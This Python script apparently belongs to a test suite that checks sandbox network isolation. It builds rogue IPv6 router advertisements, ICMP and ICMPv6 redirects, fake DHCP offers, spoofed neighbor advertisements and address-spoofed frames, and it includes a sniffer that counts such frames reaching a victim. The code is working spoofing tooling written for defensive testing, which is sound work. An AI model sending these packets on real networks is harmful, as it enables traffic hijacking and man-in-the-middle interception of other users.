#!/usr/bin/env python3
"""A hostile sandbox's tools: crafts what only a router or a DHCP server sends,
and a victim's sniffer that counts such frames arriving.

  craft.py ra IFACE                         RA to ff02::1: lifetime 1800, prefix 2001:db8:bad::/64 (A flag)
  craft.py redirect6 IFACE VICTIM DST NEWGW ICMPv6 redirect: DST is reached through NEWGW
  craft.py redirect4 IFACE VICTIM DST NEWGW ICMP redirect (host), DST through NEWGW
  craft.py dhcp4 IFACE                      a DHCPOFFER from port 67 to 255.255.255.255:68
  craft.py dhcp6 IFACE                      a DHCPv6 ADVERTISE from port 547 to [ff02::1]:546
  craft.py na IFACE TARGET MAC              unsolicited NA (override) to ff02::1: TARGET is at MAC
  craft.py udp4 IFACE SRCMAC SRCIP DSTMAC DSTIP DPORT TOKEN
                                            an Ethernet frame with an IPv4 UDP datagram "tok:TOKEN",
                                            every address of it as given (identity theft)
  craft.py sniff IFACE SECONDS KIND [TARGET] counts frames of KIND arriving on IFACE
                                            (ra, redirect6, redirect4, dhcp4, dhcp6, na)
Each sender sends its packet three times and prints how many it sent.
"""
import ipaddress
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def icmp6_sock(iface):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    return s


def send3(s, pkt, dst):
    for _ in range(3):
        s.sendto(pkt, dst)
        time.sleep(0.05)
    print(3)


def ra(iface):
    # type, code, checksum (the kernel fills it), hop limit, flags, router lifetime, reachable, retrans
    body = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0)
    prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 86400, 14400, 0) + ipaddress.IPv6Address('2001:db8:bad::').packed
    send3(icmp6_sock(iface), body + prefix, ('ff02::1', 0, 0, socket.if_nametoindex(iface)))


def redirect6(iface, victim, dst, newgw):
    body = struct.pack('!BBHI', 137, 0, 0, 0) + ipaddress.IPv6Address(newgw).packed + ipaddress.IPv6Address(dst).packed
    scope = socket.if_nametoindex(iface) if ipaddress.IPv6Address(victim).is_link_local else 0
    send3(icmp6_sock(iface), body, (victim, 0, 0, scope))


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def redirect4(iface, victim, dst, newgw):
    # The embedded header: a datagram the victim "sent" to DST.
    inner = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 28, 1, 0, 64, 17, 0,
                        socket.inet_aton(victim), socket.inet_aton(dst)) + struct.pack('!HHHH', 40000, 53, 8, 0)
    head = struct.pack('!BBH4s', 5, 1, 0, socket.inet_aton(newgw))
    pkt = bytearray(head + inner)
    struct.pack_into('!H', pkt, 2, checksum(bytes(pkt)))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    send3(s, bytes(pkt), (victim, 0))


def dhcp4(iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('0.0.0.0', 67))
    # BOOTREPLY, an offer of 10.99.0.50 with router and DNS at 10.99.0.1
    offer = struct.pack('!BBBBIHH4s4s4s4s16s64s128s', 2, 1, 6, 0, 0x1234, 0, 0, b'\0' * 4,
                        socket.inet_aton('10.99.0.50'), b'\0' * 4, b'\0' * 4, b'\0' * 16, b'\0' * 64, b'\0' * 128)
    opts = b'\x63\x82\x53\x63' + b'\x35\x01\x02' + b'\x03\x04' + socket.inet_aton('10.99.0.1') + b'\x06\x04' + socket.inet_aton('10.99.0.1') + b'\xff'
    send3(s, offer + opts, ('255.255.255.255', 68))


def dhcp6(iface):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('::', 547))
    advertise = bytes([2, 0x12, 0x34, 0x56])  # ADVERTISE, transaction id
    send3(s, advertise, ('ff02::1', 546, 0, socket.if_nametoindex(iface)))


def na(iface, target, mac):
    # flags: override (0x20000000), not solicited, not router; option 2: target link-layer address
    body = struct.pack('!BBHI', 136, 0, 0, 0x20000000) + ipaddress.IPv6Address(target).packed
    body += bytes([2, 1]) + bytes(int(x, 16) for x in mac.split(':'))
    send3(icmp6_sock(iface), body, ('ff02::1', 0, 0, socket.if_nametoindex(iface)))


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(':'))


def udp4(iface, srcmac, srcip, dstmac, dstip, dport, token):
    payload = ('tok:' + token).encode()
    udp = struct.pack('!HHHH', 40000 + int(time.time() * 1000) % 20000, int(dport), 8 + len(payload), 0) + payload
    ip = bytearray(struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                               socket.inet_aton(srcip), socket.inet_aton(dstip)))
    struct.pack_into('!H', ip, 10, checksum(bytes(ip)))
    frame = mac_bytes(dstmac) + mac_bytes(srcmac) + struct.pack('!H', 0x0800) + bytes(ip) + udp
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    send3(s, frame, (iface, 0))


def kind_of(frame, target):
    """The kind of an Ethernet frame, or None."""
    etype = struct.unpack('!H', frame[12:14])[0]
    if etype == 0x86dd and len(frame) >= 58:
        nh = frame[20]
        l4 = frame[54:]
        if nh == 58:
            t = l4[0]
            if t == 134:
                return 'ra'
            if t == 137:
                return 'redirect6'
            if t == 136 and len(l4) >= 24 and (target is None or l4[8:24] == target):
                return 'na'
        if nh == 17 and len(l4) >= 4 and struct.unpack('!HH', l4[:4]) == (547, 546):
            return 'dhcp6'
    if etype == 0x0800 and len(frame) >= 38:
        ihl = (frame[14] & 0xf) * 4
        proto = frame[23]
        l4 = frame[14 + ihl:]
        if proto == 1 and l4[:1] == b'\x05':
            return 'redirect4'
        if proto == 17 and len(l4) >= 4 and struct.unpack('!HH', l4[:4]) == (67, 68):
            return 'dhcp4'
    return None


def sniff(iface, seconds, kind, target=None):
    t = ipaddress.IPv6Address(target).packed if target else None
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    # Tell the caller the sniffer is listening before anything is sent.
    print('ready', flush=True)
    end = time.monotonic() + float(seconds)
    n = 0
    while True:
        left = end - time.monotonic()
        if left <= 0:
            break
        s.settimeout(left)
        try:
            frame, addr = s.recvfrom(65535)
        except socket.timeout:
            break
        if addr[2] != PACKET_OUTGOING and kind_of(frame, t) == kind:
            n += 1
    print(n)


CMDS = {'ra': ra, 'redirect6': redirect6, 'redirect4': redirect4, 'dhcp4': dhcp4, 'dhcp6': dhcp6, 'na': na, 'udp4': udp4, 'sniff': sniff}

if __name__ == '__main__':
    if len(sys.argv) < 3 or sys.argv[1] not in CMDS:
        sys.exit(__doc__)
    CMDS[sys.argv[1]](*sys.argv[2:])
